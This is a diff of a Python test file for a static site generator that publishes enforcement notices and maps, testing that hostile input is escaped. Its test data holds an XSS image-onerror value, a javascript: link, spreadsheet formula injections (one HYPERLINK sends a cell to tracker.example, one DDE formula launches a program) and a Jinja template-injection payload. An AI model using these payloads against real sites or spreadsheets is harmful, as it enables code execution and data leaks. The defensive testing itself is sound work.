@@ -37,7 +37,20 @@ from generator.untrusted import (
     web_address,
     xml_text,
 )
-from hostile import HTML, MARKDOWN, TEMPLATES, UNICODE, rename_wards, rewrite_notices
+from hostile import (
+    ADDRESS,
+    DOCUMENT,
+    HTML,
+    IMAGE,
+    MARKDOWN,
+    TEMPLATES,
+    UNICODE,
+    WARD_FORMULA,
+    WARD_HTML,
+    plant_payloads,
+    rename_wards,
+    rewrite_notices,
+)
 
 # ---- Web addresses ----------------------------------------------------------------------
 
@@ -269,6 +282,9 @@ def test_tile_url_gives_the_policy_its_image_host(url, source):
     ("https://{s}.org/{z}/{x}/{y}.png", "must be the whole first part"),
     ("https://tiles.example.org/{z}/{x}/{y}.png?key={apikey}", "unknown placeholder {apikey}"),
     ("https://user@tiles.example.org/{z}/{x}/{y}.png", "must not hold a user name"),
+    ("https://tiles.example.org/{{z}/{x}/{y}.png", "'{' or '}' that is not part of"),
+    ("https://tiles.example.org/{{ 7*7 }}/{x}/{y}.png", "unknown placeholder { 7*7 }"),
+    ("https://tiles.example.org/{% if 1 %}/{x}/{y}.png", "unknown placeholder {% if 1 %}"),
 ])
 def test_tile_urls_that_cannot_be_used(url, problem):
     with pytest.raises(ValueError, match=re.escape(problem)):
@@ -302,12 +318,12 @@ def test_the_policy_replaces_the_placeholder_and_every_page_needs_one():
     policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"',
                        filled).group(1)
     assert policy == (
-        "default-src 'none'; script-src 'self' 'wasm-unsafe-eval' " + ALERT_HASH
+        "default-src 'none'; script-src 'self' " + ALERT_HASH
         + "; style-src 'self'; img-src 'self' data: https://tile.openstreetmap.org; "
         "font-src 'self'; connect-src 'self'; worker-src 'self'; manifest-src 'self'; "
         "form-action 'self'; base-uri 'none'; object-src 'none'")
     preview = csp.with_policy(page, "", preview=True)
-    assert "script-src 'self' 'wasm-unsafe-eval' 'unsafe-inline'; " in preview
+    assert "script-src 'self' 'unsafe-inline'; " in preview
     assert "img-src 'self' data:; " in preview
     with pytest.raises(ValueError, match="no Content-Security-Policy placeholder"):
         csp.with_policy("<head></head>", "")
@@ -341,31 +357,6 @@ def test_every_page_of_the_site_carries_a_policy_that_allows_exactly_its_scripts
 
 
 # ---- The three holes, closed: one site built from their exact payloads -----------------------
-
-DOCUMENT = "JaVaScRiPt:alert(1)"
-ADDRESS = "[click me](javascript:alert(1))"
-IMAGE = "![x](https://tracker.example/pixel.png)"
-FORMULAS = {"Breach Summary": "=HYPERLINK(\"https://tracker.example/?\"&A1,\"x\")",
-            "Requirements": "+1+1", "Activity Prohibited": "-2+3",
-            "Compliance Period": "@SUM(1,1)", "Permission Ref": "=1+1"}
-WARD_HTML = "<img src=x onerror=alert(1)>"
-WARD_FORMULA = "=cmd|' /C calc'!A0"
-
-
-def plant_payloads(project: Project) -> list[dict[str, str]]:
-    """Every notice gets the document link and the formulas; every address is a
-    Markdown link and every reference a Markdown image; the wards are named with HTML
-    and with a formula, in turn."""
-    def change(index: int, row: dict[str, str]) -> None:
-        row["Document"] = DOCUMENT
-        row["Site Address"] = f"{ADDRESS} {index}"
-        row["Notice Ref"] = f"{IMAGE} {index}"
-        row.update({column: f"{value} {index}" for column, value in FORMULAS.items()})
-
-    rows = rewrite_notices(project, change)
-    rename_wards(project, lambda i, _: f"{WARD_HTML if i % 2 else WARD_FORMULA} {i}")
-    return rows
-
 
 @pytest.fixture(scope="module")
 def payloads(tmp_path_factory: pytest.TempPathFactory, small_export: Path) -> Project:
@@ -483,10 +474,60 @@ def test_csv_keeps_the_value_after_its_apostrophe_and_json_keeps_it_exactly(
     assert f"{WARD_HTML} 1" in ward_csv
 
 
-def test_ward_names_reach_the_case_map_tooltip_escaped(payloads: Project):
+def _assigned(script: str, name: str) -> object:
+    """The JSON value a map script assigns to window.NAME."""
+    import json
+
+    line = next(x for x in script.splitlines() if x.startswith(f"window.{name} = "))
+    return json.loads(line.removeprefix(f"window.{name} = ").removesuffix(";"))
+
+
+def test_ward_names_reach_the_case_map_as_text_only(payloads: Project):
+    """The tooltips are built from JSON with textContent (the map's script writes no
+    HTML); folium, which would have written the names as HTML, never sees them."""
+    import json
+
     script = (payloads.site / "maps" / "case-map.js").read_text()
-    assert "<img" not in script and "\\u003cimg" not in script
-    assert "\\u0026lt;img src=x onerror=alert(1)\\u0026gt; 1" in script
+    wards = json.loads((payloads.export / "wards.geojson").read_text())["features"]
+    assert [name for name, _ in _assigned(script, "ENFORCEMENT_WARDS")] == [
+        w["properties"]["name"] for w in wards]
+    assert "innerHTML" not in script and "bindTooltip" in script
+    assert script.count(WARD_HTML) == len(wards) // 2  # once each, in the JSON
+
+
+def test_template_syntax_in_the_input_never_runs_when_the_maps_are_made(project: Project):
+    """folium renders its output again as a Jinja template: a '{{' in anything it is
+    given would run at build time, with the build's rights."""
+    import json
+
+    code = "{{ cycler.__init__.__globals__.os.getcwd() }}"
+    (project.root / "overlay.geojson").write_text(json.dumps({
+        "type": "FeatureCollection", "features": [{
+            "type": "Feature", "properties": {"name": code, "note": "{% if %}"},
+            "geometry": {"type": "Point", "coordinates": [-1.45, 52.57]}}]}))
+    project.edit_config(tiles={"name": f"Tiles {code}"}, maps={"overlays": [
+        {"name": f"Areas {code}", "file": "overlay.geojson"}]})
+    # Each value its own ('R3X' is in no other), or a withheld notice's reference would
+    # turn up inside a published one and the leak scan would stop the build.
+    rewrite_notices(project, lambda i, row: row.update({"Notice Ref": f"{code} R{i}X"}))
+    rename_wards(project, lambda i, _: f"{code} W{i}X" if i % 2 else "{% if unclosed")
+    result = project.build()
+    assert result.exit_code == 0, result.output
+    folder = str(project.root.resolve().parent)
+    for name in ("register-map.js", "case-map.js"):
+        script = (project.site / "maps" / name).read_text()
+        assert folder not in script, name  # getcwd() never ran
+        assert "{%" not in script or name == "case-map.js", name
+    register_map = (project.site / "maps" / "register-map.js").read_text()
+    assert [r for _, _, r in _assigned(register_map, "ENFORCEMENT_ENTRIES")
+            if r.startswith(code)], "the references are shown as they are"
+    # Layer names are HTML to Leaflet: the braces are character references (folium's
+    # JSON writes '&' as \u0026).
+    assert "Tiles \\u0026#123;\\u0026#123; cycler" in register_map
+    assert "Areas \\u0026#123;\\u0026#123; cycler" in register_map
+    names = [n for n, _ in _assigned(
+        (project.site / "maps" / "case-map.js").read_text(), "ENFORCEMENT_WARDS")]
+    assert names[:2] == ["{% if unclosed", f"{code} W1X"]
 
 
 def test_the_feed_is_well_formed_with_the_payloads(payloads: Project):
